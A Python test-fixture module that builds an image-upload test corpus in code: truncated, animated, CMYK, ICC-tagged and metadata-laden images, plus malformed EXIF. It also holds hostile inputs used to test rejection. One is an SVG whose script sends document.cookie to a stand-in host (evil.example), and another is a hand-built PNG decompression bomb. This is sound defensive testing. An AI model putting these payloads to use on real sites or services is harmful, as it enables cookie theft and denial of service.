"""Upload corpus for the artwork tests, generated in code (no binary fixtures in the repo).

Each function returns the bytes a browser would send. Hostile and broken files are built by
hand where Pillow would refuse to write them (bombs, truncations, a hand-made ICC profile).
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from functools import cache

from PIL import Image, ImageDraw, PngImagePlugin

# Marker strings planted in metadata; none may survive into a stored file.
LEAK_MAKE = "LeakyCam-9000"
LEAK_GPS = "GPS-LEAK-DATUM-77"
LEAK_COMMENT = b"SECRET-COMMENT-4242"
LEAK_XMP = b"XMP-LEAK-1138"
LEAK_PNG_TEXT = "PNG-TEXT-LEAK-5150"
#: Where the orientation test draws its marker in the *stored* (sideways) pixels.
MARKER = (255, 0, 0)


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def noisy(size: tuple[int, int], seed: int = 1, mode: str = "RGB") -> Image.Image:
    """Random pixels: they do not compress, so files are big enough to cut in half."""
    rnd = random.Random(seed)
    bands = len(Image.new(mode, (1, 1)).getbands())
    return Image.frombytes(mode, size, rnd.randbytes(size[0] * size[1] * bands))


def scene(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A simple picture with distinct regions, for checks on where pixels end up."""
    image = Image.new("RGB", size, (230, 230, 230))
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.rectangle((w // 4, h // 4, w * 3 // 4, h * 3 // 4), fill=(30, 90, 200))
    draw.ellipse((w // 3, h // 3, w * 2 // 3, h * 2 // 3), fill=(250, 200, 40))
    return image.convert(mode)


# --- Refused -------------------------------------------------------------------------------------


def zero_bytes() -> bytes:
    return b""


def text_renamed_png() -> bytes:
    return b"Quarterly figures, final version\nRevenue: 12\nCosts: 9\n" * 20


def truncated_png() -> bytes:
    data = encode(noisy((256, 256)), "PNG")
    return data[: len(data) // 2]


def truncated_jpeg() -> bytes:
    data = encode(noisy((256, 256)), "JPEG", quality=90)
    return data[: len(data) // 2]


@cache
def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A valid 1-bit PNG of width x height black pixels: tens of KB on disk, gigabytes decoded.

    Written by hand, streaming the rows, so making it costs neither time nor memory.
    """
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" + bytes((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    idat = b"".join(parts)
    return b"".join(
        (b"\x89PNG\r\n\x1a\n", _png_chunk(b"IHDR", ihdr), _png_chunk(b"IDAT", idat))
    ) + _png_chunk(b"IEND", b"")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(data, zlib.crc32(kind))
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="3000" height="3000">\n'
        b"  <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
        b'  <rect width="3000" height="3000" fill="teal"/>\n'
        b"</svg>\n"
    )


def gif_renamed_jpg() -> bytes:
    return encode(scene((3000, 2000)).convert("P"), "GIF")


def too_small() -> bytes:
    return encode(scene((500, 400)), "PNG")


def too_wide() -> bytes:
    return encode(scene((3000, 600)), "PNG")


def animated_png() -> bytes:
    frames = [scene((300, 200)), scene((300, 200)).rotate(180)]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:])


# --- Accepted ------------------------------------------------------------------------------------


def cmyk_jpeg() -> bytes:
    """Paper white, rich black and pure cyan patches, side by side."""
    image = Image.new("CMYK", (300, 100), (0, 0, 0, 0))
    image.paste((0, 0, 0, 255), (100, 0, 200, 100))
    image.paste((255, 0, 0, 0), (200, 0, 300, 100))
    return encode(image, "JPEG", quality=95)


def png_16bit_grey(value: int = 40000) -> bytes:
    """16-bit greyscale: a flat field at `value` (of 65535) with a black stripe."""
    image = Image.new("I;16", (300, 200), value)
    image.paste(Image.new("I;16", (300, 20), 0), (0, 0))
    return encode(image, "PNG")


def palette_png_with_transparency() -> bytes:
    """Left half transparent (palette index 0 via tRNS), right half opaque red."""
    image = Image.new("P", (300, 200), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * (256 * 3 - 6))
    image.paste(1, (150, 0, 300, 200))
    return encode(image, "PNG", transparency=0)


def rgba_png() -> bytes:
    image = scene((300, 200), "RGBA")
    alpha = Image.new("L", image.size, 255)
    alpha.paste(0, (0, 0, 60, 200))
    image.putalpha(alpha)
    return encode(image, "PNG")


def opaque_rgba_png() -> bytes:
    return encode(scene((300, 200), "RGBA"), "PNG")


def greyscale_png() -> bytes:
    return encode(scene((300, 200), "L"), "PNG")


def greyscale_jpeg() -> bytes:
    return encode(scene((300, 200), "L"), "JPEG", quality=92)


def webp() -> bytes:
    return encode(scene((300, 200)), "WEBP", quality=90)


def jpeg_orientation_6() -> bytes:
    """Stored landscape (300x200) with a red marker top-left, EXIF orientation 6.

    Orientation 6 means "rotate 90° clockwise to display": shown upright the image is 200x300
    and the marker sits in the top-right corner.
    """
    image = Image.new("RGB", (300, 200), (240, 240, 240))
    image.paste(MARKER, (0, 0, 50, 50))
    exif = Image.Exif()
    exif[0x0112] = 6
    return encode(image, "JPEG", quality=95, exif=exif)


def jpeg_with_gps_and_comment() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = LEAK_MAKE  # Make
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0), 0x12: LEAK_GPS}
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + LEAK_XMP + b"</x:xmpmeta>"
    return encode(scene((300, 200)), "JPEG", quality=92, exif=exif, comment=LEAK_COMMENT, xmp=xmp)


def png_with_text_chunks() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", LEAK_PNG_TEXT)
    info.add_itxt("Description", LEAK_PNG_TEXT, zip=True)
    exif = Image.Exif()
    exif[0x010F] = LEAK_MAKE
    return encode(scene((300, 200)), "PNG", pnginfo=info, exif=exif)


#: Adobe RGB (1998) primaries adapted to D50, as in the published profile.
ADOBE_PRIMARIES = (
    (0.60974, 0.31111, 0.01947),
    (0.20528, 0.62567, 0.06087),
    (0.14919, 0.06322, 0.74457),
)
ADOBE_GAMMA = 563 / 256  # 2.2 as the u8Fixed8 the profile stores
D50 = (0.9642, 1.0, 0.8249)


@cache
def adobe_rgb_like_profile() -> bytes:
    """A minimal ICC v2 matrix/TRC display profile with Adobe RGB primaries and gamma 2.2.

    ImageCms.createProfile only makes sRGB, LAB and XYZ profiles, so this one is assembled from
    the ICC spec: header, tag table, then desc/cprt/wtpt/rXYZ/gXYZ/bXYZ and one shared curve.
    """

    def s15(value: float) -> bytes:
        return struct.pack(">i", round(value * 65536))

    def xyz(values: tuple[float, float, float]) -> bytes:
        return b"XYZ " + bytes(4) + b"".join(s15(v) for v in values)

    name = b"Adobe RGB (1998)-like test profile\x00"
    desc = b"desc" + bytes(4) + struct.pack(">I", len(name)) + name + bytes(4 + 4 + 2 + 1 + 67)
    tags = [
        (b"desc", desc),
        (b"cprt", b"text" + bytes(4) + b"No copyright, test data\x00"),
        (b"wtpt", xyz(D50)),
        (b"rXYZ", xyz(ADOBE_PRIMARIES[0])),
        (b"gXYZ", xyz(ADOBE_PRIMARIES[1])),
        (b"bXYZ", xyz(ADOBE_PRIMARIES[2])),
    ]
    curve = b"curv" + bytes(4) + struct.pack(">IH", 1, 563) + bytes(2)
    table_size = 4 + 12 * (len(tags) + 3)
    offset = 128 + table_size
    entries, blobs = [], []
    for signature, blob in tags:
        blob += bytes(-len(blob) % 4)
        entries.append(struct.pack(">4sII", signature, offset, len(blob)))
        blobs.append(blob)
        offset += len(blob)
    for signature in (b"rTRC", b"gTRC", b"bTRC"):  # the three channels share one curve
        entries.append(struct.pack(">4sII", signature, offset, len(curve)))
    blobs.append(curve)
    body = struct.pack(">I", len(entries)) + b"".join(entries) + b"".join(blobs)
    size = 128 + len(body)
    header = (
        struct.pack(">I4sI4s4s4s", size, b"lcms", 0x02100000, b"mntr", b"RGB ", b"XYZ ")
        + struct.pack(">6H", 2024, 1, 1, 0, 0, 0)
        + b"acsp"
        + bytes(4 + 4 + 4 + 4 + 8 + 4)
        + b"".join(s15(v) for v in D50)
        + bytes(4 + 16 + 28)
    )
    assert len(header) == 128
    return header + body


def adobe_rgb_to_srgb(rgb: tuple[int, int, int]) -> tuple[float, float, float]:
    """Reference conversion by the textbook maths, independent of LittleCMS."""
    linear = [(c / 255) ** ADOBE_GAMMA for c in rgb]
    x, y, z = (sum(ADOBE_PRIMARIES[c][i] * linear[c] for c in range(3)) for i in range(3))
    # XYZ (D50) -> linear sRGB, Bradford-adapted (Lindbloom's matrix).
    r = 3.1338561 * x - 1.6168667 * y - 0.4906146 * z
    g = -0.9787684 * x + 1.9161415 * y + 0.0334540 * z
    b = 0.0719453 * x - 0.2289914 * y + 1.4052427 * z

    def encode_srgb(v: float) -> float:
        v = min(max(v, 0.0), 1.0)
        return 255 * (12.92 * v if v <= 0.0031308 else 1.055 * v ** (1 / 2.4) - 0.055)

    return encode_srgb(r), encode_srgb(g), encode_srgb(b)


#: A colour well inside both gamuts, where Adobe RGB and sRGB numbers clearly differ.
ICC_TEST_COLOUR = (120, 160, 110)


def icc_tagged_png() -> bytes:
    image = Image.new("RGB", (300, 200), ICC_TEST_COLOUR)
    return encode(image, "PNG", icc_profile=adobe_rgb_like_profile())


def icc_tagged_jpeg() -> bytes:
    image = Image.new("RGB", (300, 200), ICC_TEST_COLOUR)
    return encode(image, "JPEG", quality=98, icc_profile=adobe_rgb_like_profile())


# --- Malformed metadata ------------------------------------------------------------------------


def _tiff_ifd(entries: list[tuple[int, int, int, bytes]]) -> bytes:
    """An EXIF APP1 payload: one little-endian IFD of (tag, type, count, 4-byte value) entries."""
    body = struct.pack("<H", len(entries))
    body += b"".join(struct.pack("<HHI4s", *entry) for entry in entries) + bytes(4)
    return b"Exif\x00\x00II*\x00" + struct.pack("<I", 8) + body


def _with_app1(jpeg: bytes, payload: bytes) -> bytes:
    segment = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    return jpeg[:2] + segment + jpeg[2:]


#: Orientation 6 (rotate to display), stored as the SHORT it must be.
_ORIENTATION_6 = (0x0112, 3, 1, struct.pack("<HH", 6, 0))


def jpeg_with_malformed_exif(size: tuple[int, int] = (300, 200), variant: str = "ascii") -> bytes:
    """A good JPEG whose EXIF block makes Pillow's exif_transpose raise struct.error.

    "ascii": ResolutionUnit (a SHORT) typed as ASCII text; "long": the orientation typed LONG,
    next to a LONG too big for the SHORT Pillow writes back. Both parse, and fail when
    exif_transpose writes the EXIF block back without the orientation.
    """
    entries = {
        "ascii": [_ORIENTATION_6, (0x0128, 2, 4, b"ab\x00\x00")],
        "long": [(0x0112, 4, 1, struct.pack("<I", 6)), (0x0102, 4, 1, struct.pack("<I", 2**31))],
    }[variant]
    return _with_app1(encode(scene(size), "JPEG", quality=90), _tiff_ifd(entries))
